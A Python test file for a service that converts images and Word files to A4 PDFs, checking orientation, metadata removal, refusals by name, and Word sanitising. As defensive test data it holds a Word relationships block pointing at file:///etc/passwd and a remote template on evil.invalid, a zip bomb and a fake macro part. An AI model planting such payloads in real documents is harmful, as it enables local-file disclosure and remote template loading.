"""Pictures and Word files become PDF: upright, at A4, without what was hidden in them, or are refused by name."""

import base64
import io
import os
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pikepdf
import pypdfium2  # type: ignore[import-untyped]  # it has no types
import pytest
from PIL import Image

from bff.cage import Cage
from bff.core.ports import Judged
from bff.signing.converting import A4_POINTS, found_office, kind_of
from bff.signing.intake import Intake

REAL = Path(__file__).resolve().parents[3] / "shared" / "data" / "contracts"
HEIC = base64.b85decode(
    "0000SW^{RQXk}?*00000ZE0pPXk}?*ZE0a<0004fZDn*}000000000XXk=`10000000000aA{+700000000000000000000B57=I"
    "V*mgE07O6l0RRC200001p#T8@000000043T001LtX>Mi!000000RR916=`l}WdZ;I000310BCk&F#rGn01j|zbZr0t000010002}"
    "X>f9I0002pX>en20001XXm(>m0RwOV0058x000009`FGC{rLC*01pFT0096PKmiN^|NjGU00093kN^M!000939=ZZRVE_RDDnbDP"
    "18@KU0|1Z!00RI30{|YNAb|yz>g1-mxCm%4AOHXZ10VnZ0{|gn00967L;=Bbz=;3=025<xY;ta6Y<K_x01W^JfB*mh6lrsCWdHyG"
    "00000KmY&$KmY&$C}V74Z~y=RKmY&$0RR91AOHXW0RR91000000{{R2-~a#s0ssI25O8UDX#fBK00RgJ2mk;87-?{AVE_OC00000"
    "0RRC7fdT^sga7~ldTnH3bN~PVZYTk-3E<-koSF~+{7`?d{mk?K@~u=U6PNdl*8kz>Wq-0-pN|VZBE&$y87I`2ooqlylbz@Hm~=&@"
    "bgTAS`BV>39J*z1fdS-C1xTvs497+QaP;Ft_m7~sN(F#sQiPpOr!>#BQrDm>Sgc3"
)
"""Half blue, half red, 64 by 32."""


@pytest.fixture(scope="module")
def cage() -> Iterator[Cage]:
    cage = Cage(2048, 20, 40, preload=("pikepdf", "pypdfium2", "bff.signing.intake"))
    yield cage
    cage.close()


def judged(cage: Cage, tmp_path: Path, *contents: bytes, office: Path | None = None, most: int = 8_000_000) -> Judged:
    paths = []
    for number, content in enumerate(contents):
        paths.append(tmp_path / f"upload-{number}")
        paths[-1].write_bytes(content)
    intake = Intake(cage, tmp_path / "in", most, 20, probe="bff.signing.trial:probe", office=office)
    answer = intake.judge(*paths)
    assert [path.name for path in (tmp_path / "in").glob(".*")] == []
    return answer


def picture(
    size: tuple[int, int] = (64, 32),
    kind: str = "JPEG",
    mode: str = "RGB",
    halves: tuple[str, str] = ("blue", "red"),
    **how: object,
) -> bytes:
    """Blue above, red below."""
    drawn = Image.new("RGB", size, halves[1])
    drawn.paste(halves[0], (0, 0, size[0], size[1] // 2))
    content = io.BytesIO()
    drawn.convert(mode).save(content, kind, **how)
    return content.getvalue()


def shown(answer: Judged, page: int = 0) -> Image.Image:
    with pypdfium2.PdfDocument(answer.path) as document:
        return document[page].render(scale=1).to_pil().convert("RGB")


def colours(answer: Judged, page: int = 0) -> tuple[str, str, str, str]:
    """What the middle of the page has above, below, on the left and on the right."""
    sheet = shown(answer, page)
    middle_x, middle_y, off = sheet.width // 2, sheet.height // 2, 6
    places = [(0, -off), (0, off), (-off, 0), (off, 0)]
    return tuple(_named(sheet.getpixel((middle_x + x, middle_y + y))) for x, y in places)  # type: ignore[return-value]


def _named(pixel: tuple[int, int, int]) -> str:
    red, _, blue = pixel
    if min(pixel) > 230:
        return "white"
    if max(pixel) < 60:
        return "black"
    return "red" if red > blue + 80 else "blue" if blue > red + 80 else "other"


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
def test_a_picture_becomes_a_sheet_of_a4_and_the_sender_is_told(cage: Cage, tmp_path: Path, kind: str) -> None:
    answer = judged(cage, tmp_path, picture((64, 32), kind))
    assert (answer.outcome, answer.warnings) == ("ready", ("from_pictures",))
    assert [(page.width, page.height) for page in answer.pages] == [
        (pytest.approx(A4_POINTS[1], abs=0.01), pytest.approx(A4_POINTS[0], abs=0.01))
    ]
    assert colours(answer)[:2] == ("blue", "red")


def test_a_photograph_of_a_phone_is_read(cage: Cage, tmp_path: Path) -> None:
    answer = judged(cage, tmp_path, HEIC)
    assert (answer.outcome, answer.warnings) == ("ready", ("from_pictures",))
    assert colours(answer)[:2] == ("blue", "red")


def test_several_pictures_are_pages_in_their_order(cage: Cage, tmp_path: Path) -> None:
    answer = judged(cage, tmp_path, picture((40, 80)), HEIC, picture((40, 80), "PNG"))
    assert len(answer.pages) == 3
    assert [page.width < page.height for page in answer.pages] == [True, False, True]


def test_a_picture_taken_lying_down_stands_upright_and_tells_no_place(cage: Cage, tmp_path: Path) -> None:
    turned = Image.Exif()
    turned[0x0112] = 6  # to be turned a quarter to the right
    turned[0x010F] = "Camera of somebody"
    answer = judged(cage, tmp_path, picture((64, 32), exif=turned))
    assert answer.pages[0].width < answer.pages[0].height
    assert colours(answer)[2:] == ("red", "blue")
    assert answer.path is not None
    assert b"Camera of somebody" not in answer.path.read_bytes()


def test_what_is_clear_is_white(cage: Cage, tmp_path: Path) -> None:
    content = io.BytesIO()
    Image.new("RGBA", (60, 60), (0, 0, 0, 0)).save(content, "PNG")
    assert set(colours(judged(cage, tmp_path, content.getvalue()))) == {"white"}


@pytest.mark.parametrize("mode", ["1", "L", "P", "I;16", "CMYK"])
def test_pictures_of_every_kind_of_pixel_are_drawn(cage: Cage, tmp_path: Path, mode: str) -> None:
    if mode == "I;16":
        content = io.BytesIO()
        Image.new("I;16", (60, 60), 65535).save(content, "PNG")
        assert set(colours(judged(cage, tmp_path, content.getvalue()))) == {"white"}
        return
    halves = ("black", "white") if mode in ("1", "L") else ("blue", "red")
    answer = judged(cage, tmp_path, picture((60, 60), "JPEG" if mode == "CMYK" else "PNG", mode, halves))
    assert answer.outcome == "ready"
    assert colours(answer)[:2] == halves


def test_a_large_picture_is_kept_at_300_dots_an_inch(cage: Cage, tmp_path: Path) -> None:
    answer = judged(cage, tmp_path, picture((3000, 5000)))
    with pikepdf.open(str(answer.path)) as pdf:
        (kept,) = pdf.pages[0].obj.Resources.XObject.as_dict().values()
        assert (kept.Width, kept.Height) == (2105, 3508)


def huge_png() -> bytes:
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", 200_000, 200_000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    ("contents", "code"),
    [
        ([picture()[:200]], "image_unreadable"),
        ([b"\xff\xd8\xff" + bytes(100)], "image_unreadable"),
        ([HEIC[:300]], "image_unreadable"),
        ([huge_png()], "image_too_large"),
        ([picture(), b"%PDF-1.7"], "one_kind_only"),
        ([b"%PDF-1.7", b"%PDF-1.7"], "one_kind_only"),
        ([b"GIF89a"], "not_a_pdf"),
    ],
)
def test_what_cannot_become_a_pdf_is_refused_by_name(
    cage: Cage, tmp_path: Path, contents: list[bytes], code: str
) -> None:
    assert judged(cage, tmp_path, *contents).outcome == code


def test_together_they_may_not_be_too_large(cage: Cage, tmp_path: Path) -> None:
    one = picture((400, 400), "PNG", compress_level=0)
    assert judged(cage, tmp_path, one, one, most=len(one) + 10).outcome == "too_large"


# --- Word ---


def word(*, more: dict[str, bytes] | None = None) -> bytes:
    """A small Word file."""
    kinds = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.document.main+xml"/></Types>'
    )
    relations = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
        b' Target="word/document.xml"/></Relationships>'
    )
    text = (
        b'<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
        b"<w:p><w:r><w:t>The parties agree</w:t></w:r></w:p></w:body></w:document>"
    )
    parts = {"[Content_Types].xml": kinds, "_rels/.rels": relations, "word/document.xml": text, **(more or {})}
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as package:
        for name, part in parts.items():
            package.writestr(name, part)
    return content.getvalue()


LINKS = b"""<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="a" Type="http://x/relationships/image" Target="file:///etc/passwd" TargetMode="External"/>
<Relationship Id="b" Type="http://x/relationships/attachedTemplate" Target="http://evil.invalid/t.dotm"
 TargetMode = 'External'></Relationship>
<Relationship Id="c" Type="http://x/relationships/hyperlink" Target="https://example.org" TargetMode="External"/>
<Relationship Id="d" Type="http://x/relationships/image" Target="media/image1.png"/></Relationships>"""


def office_that_copies(tmp_path: Path) -> Path:
    """Stands for LibreOffice: keeps what it was given beside itself, and its environment."""
    program = tmp_path / "soffice"
    program.write_text(f'#!/bin/sh\nenv > {tmp_path}/seen.env\nfor last; do :; done\ncp "$last" {tmp_path}/seen.docx\n')
    program.chmod(0o700)
    return program


def test_without_libreoffice_a_word_file_is_refused_with_a_way_out(cage: Cage, tmp_path: Path) -> None:
    assert judged(cage, tmp_path, word()).outcome == "word_not_installed"


def test_what_points_outside_and_our_secrets_never_reach_libreoffice(
    cage: Cage, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("BFF_SECRET_OF_THE_HOUSE", "x")
    office = office_that_copies(tmp_path)
    answer = judged(cage, tmp_path, word(more={"word/_rels/document.xml.rels": LINKS}), office=office)
    assert answer.outcome == "word_unreadable"  # it made no PDF
    with zipfile.ZipFile(tmp_path / "seen.docx") as package:
        left = package.read("word/_rels/document.xml.rels")
    assert b"passwd" not in left
    assert b"evil" not in left
    assert b'Id="c"' in left
    assert b'Id="d"' in left
    assert "SECRET" not in (tmp_path / "seen.env").read_text()


def test_macros_and_bombs_do_not_reach_libreoffice(cage: Cage, tmp_path: Path) -> None:
    office = office_that_copies(tmp_path)
    assert judged(cage, tmp_path, word(more={"word/vbaProject.bin": b"x"}), office=office).outcome == "word_macros"
    bomb = word(more={"word/media/a.bin": bytes(310_000_000)})
    assert len(bomb) < 1_000_000
    assert judged(cage, tmp_path, bomb, office=office).outcome == "word_unreadable"
    assert not (tmp_path / "seen.docx").exists()


@pytest.mark.parametrize("content", [b"PK\x03\x04 and nothing", word()[:300], word(more={"x": b"y"})[:-30]])
def test_a_package_that_is_no_word_file_is_no_pdf_either(cage: Cage, tmp_path: Path, content: bytes) -> None:
    assert judged(cage, tmp_path, content, office=office_that_copies(tmp_path)).outcome == "not_a_pdf"


def the_office() -> Path:
    """LibreOffice where it is installed, or where BFF_TEST_OFFICE says."""
    office = Path(os.environ["BFF_TEST_OFFICE"]) if "BFF_TEST_OFFICE" in os.environ else found_office()
    if office is None:
        pytest.skip("LibreOffice is not installed")
    return office


def test_a_word_file_is_set_by_libreoffice(cage: Cage, tmp_path: Path) -> None:
    answer = judged(cage, tmp_path, word(more={"word/_rels/document.xml.rels": LINKS}), office=the_office())
    assert answer.outcome in ("ready", "repaired")
    assert answer.warnings[0] == "from_word"
    assert "The parties agree" in answer.text


@pytest.mark.parametrize("path", sorted(REAL.glob("*.docx")), ids=lambda path: path.stem)
def test_real_contracts_are_set_by_libreoffice(cage: Cage, tmp_path: Path, path: Path) -> None:
    answer = judged(cage, tmp_path, path.read_bytes(), office=the_office())
    assert answer.outcome in ("ready", "repaired")
    assert len(answer.text) > 1000


def test_names_lie_and_beginnings_do_not(tmp_path: Path) -> None:
    named = tmp_path / "contract.docx"
    named.write_bytes(HEIC)
    assert kind_of(named) == "heic"
